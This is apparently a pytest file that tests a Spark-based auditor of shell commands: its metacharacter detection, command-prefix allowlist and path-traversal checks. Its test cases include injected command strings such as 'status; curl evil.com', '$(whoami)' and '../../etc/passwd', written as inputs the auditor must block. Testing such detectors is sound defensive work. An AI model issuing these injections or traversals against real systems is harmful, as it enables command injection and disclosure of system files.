"""Allowlist, metacharacter and path cases."""

import pytest

from capsift.operators import audit
from conftest import dicts

SAFE = ["status", 'log --format="%H %s"', '"foo|bar"', "'foo;bar'", '"a>b"', "log $BRANCH", "--no-pager log -n 10",
        'log --format="%H&%s"', 'a "b;c', '$""(x', '"abc\\']
BLOCKED = [
    ("status; curl evil.com", "semicolon"), ("status && curl evil.com", "and_and"), ("status || curl evil.com", "or_or"),
    ("log | cat", "pipe"), ("log > patch.txt", "redirect"), ("commit -F < msg.txt", "redirect"),
    ("log `whoami`", "backtick"), ("log $(whoami)", "command_substitution"),
    ("diff <(cat a) <(cat b)", "process_substitution_in"), ("tee >(cat)", "process_substitution_out"),
    ("status & whoami", "ampersand"), ("status && whoami", "and_and"),
    ('"a\\";b" ; c', "semicolon"), ("it's; ok' ; x", "semicolon"), ("a\\;b", "semicolon")]


def test_metachars(spark):
    cases = [(t, None) for t in SAFE] + BLOCKED
    df = spark.createDataFrame([(i, t) for i, (t, _) in enumerate(cases)], "command_id long, command string")
    got = dicts(audit.audit_metachars(df), "command_id")
    assert [(r["command"], r["rule"]) for r in got] == cases
    assert all(r["safe"] == (r["rule"] is None) and (r["reason"] is None) == r["safe"] for r in got)


def test_metachars_against_state_machine(spark):
    """The two patterns against a character walk, on random strings."""
    import random

    rng = random.Random(7)
    texts = ["".join(rng.choice("ab'\"\\;&|<>()`$ ") for _ in range(rng.randint(0, 14))) for _ in range(4000)]

    def walk(s):
        state, i = "", 0
        while i < len(s):
            c = s[i]
            if state == "'":
                state = "" if c == "'" else state
            elif state == '"':
                if c == "\\":
                    i += 1
                elif c == '"':
                    state = ""
            elif c in "'\"":
                state = c
            else:
                for token in ("&&", "||", "<(", ">(", "$("):
                    if s.startswith(token, i):
                        return token
                if c in ";&|<>`":
                    return c
            i += 1
        return ""

    df = spark.createDataFrame([(t,) for t in texts], "command string")
    got = df.select("command", audit.shell_token(df.command).alias("t")).collect()
    assert [(r.command, r.t) for r in got if r.t != walk(r.command)] == []


def test_substitution_inside_double_quotes_is_reported(spark):
    texts = ['echo "$(id)"', 'echo "`id`"', "echo '$(id)'", 'echo "\\$(id)"', 'echo "\\\\$(id)"', "a\nb"]
    df = spark.createDataFrame([(i, t) for i, t in enumerate(texts)], "command_id long, command string")
    got = dicts(audit.audit_metachars(df), "command_id")
    assert [r["substitution_in_quotes"] for r in got] == [True, True, False, False, True, False]
    assert all(r["safe"] for r in got) and got[5]["bare_newline"]


ALLOW = [("git status", True, "git"), ("npm run build", True, "npm"), ("npx tsc", True, "npx"),
         ("./gradlew assembleDebug", True, "./gradlew"), ("rg -n pattern src/", True, "rg"),
         ("curl http://x.com", True, "curl"), ("evil_cmd --flag", False, "evil_cmd"), ("", False, ""), ("   ", False, ""),
         ("curl_evil http://x.com", False, "curl_evil")]


@pytest.mark.parametrize("as_table", [False, True])
def test_allowlist(spark, as_table):
    from capsift.rules import ALLOWED_PREFIXES

    df = spark.createDataFrame([(i, c) for i, (c, _, _) in enumerate(ALLOW)], "command_id long, command string")
    table = spark.createDataFrame([(p,) for p in ALLOWED_PREFIXES], "prefix string") if as_table else None
    got = dicts(audit.audit_allowlist(df, table), "command_id")
    assert [(r["command"], r["allowed"], r["prefix"]) for r in got] == ALLOW


@pytest.mark.parametrize("path,rule", [
    ("src/index.ts", None), ("/home/user/project/file.ts", None), (".gitignore", None), ("..", None), ("a+b/c", None),
    ("../../etc/passwd", "traversal"), ("..\\..\\Windows\\System32", "traversal"), ("%2e%2e/etc/passwd", "traversal"),
    ("%2E%2Ex", "encoded_traversal"), ("bad%zz/x", "malformed")])
def test_paths(spark, path, rule):
    row = audit.audit_path(spark.createDataFrame([(path,)], "path string")).first()
    assert row.rule == rule and row.safe == (rule is None)


def test_gate_checks_arguments_only(spark):
    df = spark.createDataFrame([(1, "git log; x"), (2, "evil a"), (3, 'git commit -m "a;b"'), (4, "git")],
                               "command_id long, command string")
    got = dicts(audit.audit_commands(df), "command_id")
    assert [(r["safe"], r["rule"]) for r in got] == [(False, "semicolon"), (False, "allowlist"), (True, None), (True, None)]
